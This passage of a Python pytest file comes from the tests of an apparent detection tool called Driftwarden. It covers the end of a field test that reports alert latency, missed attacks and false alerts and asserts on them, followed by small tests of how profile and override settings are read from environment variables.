            lat = ", ".join(f"{w} {t:.2f} s" for w, t in attack.latency.items())
            miss = [w for w in attack.expect if w not in attack.latency]
            missing = "MISSED " + ", ".join(miss) if miss else ""
            lines.append(f"    {attack.track}: {attack.name}: "
                         f"{'; '.join(filter(None, (lat, missing)))}")
    lines.append(f"  ({other_containers} alerts about other tests' containers not counted; "
                 f"crash loop restarts {restarts})")
    details = [f"  FALSE [{key}] {name}: {describe(alert)}"
               for key, found in false.items() for name, alert in found.values()]
    summary = tmp_path / "field-summary.txt"
    summary.write_text("\n".join(lines + details) + f"\nalerts: {agent.alerts_out}\n")
    if details or missed:  # pytest keeps only its last few tmp dirs: keep the evidence
        kept = Path(tempfile.gettempdir())
        shutil.copyfile(summary, kept / "dw-field-summary.txt")
        shutil.copyfile(agent.alerts_out, kept / "dw-field-alerts.jsonl")
        lines.append(f"  kept as {kept / 'dw-field-summary.txt'} and "
                     f"{kept / 'dw-field-alerts.jsonl'}")
    with capsys.disabled():
        print("\n" + "\n".join(lines))
        for line in details[:40]:
            print(line[:400])
        if len(details) > 40:
            print(f"  ... {len(details) - 40} more false alerts in the summary file")
        print(f"  summary: {summary}\n  alerts: {agent.alerts_out}")

    # the workloads worked and the conditions really happened (else quiet proves nothing)
    assert all(working.values()), f"workloads not doing their job: {working}"
    assert min(restarts) >= 2, f"the crash loop did not loop: restarts {restarts}"
    assert all(outage_seen), "the workers never saw the backend down"
    assert wraps >= cfg.wraps
    assert traffic.sent > 0
    assert not total_false and not missed, (
        f"false alerts per condition: { {k: len(v) for k, v in false.items()} }; "
        f"missed: {missed} (details in {summary})")


# ---- settings (no kernel, no Docker) ------------------------------------------------------------


def test_field_settings_default_to_the_ci_profile():
    assert FieldSettings.from_env({}) == FieldSettings()


def test_field_settings_long_profile_with_an_override():
    got = FieldSettings.from_env({ENV + "PROFILE": "long", ENV + "LEARN": "300"})
    assert (got.learn, got.scale, got.outage, got.wraps) == (300.0, 3.0, 60.0, 10)
    assert got.s(10) == 30.0


@pytest.mark.parametrize(("env", "message"), [
    ({ENV + "PROFILE": "short"}, "DRIFTWARDEN_FIELD_PROFILE='short': use one of ['ci', 'long']"),
    ({ENV + "LEARN": "soon"}, "DRIFTWARDEN_FIELD_LEARN='soon': need a float >= 5"),
    ({ENV + "WRAPS": "0"}, "DRIFTWARDEN_FIELD_WRAPS='0': need a int >= 1"),
])
def test_field_settings_refuse_bad_values(env, message):
    with pytest.raises(ValueError) as raised:
        FieldSettings.from_env(env)
    assert str(raised.value) == message
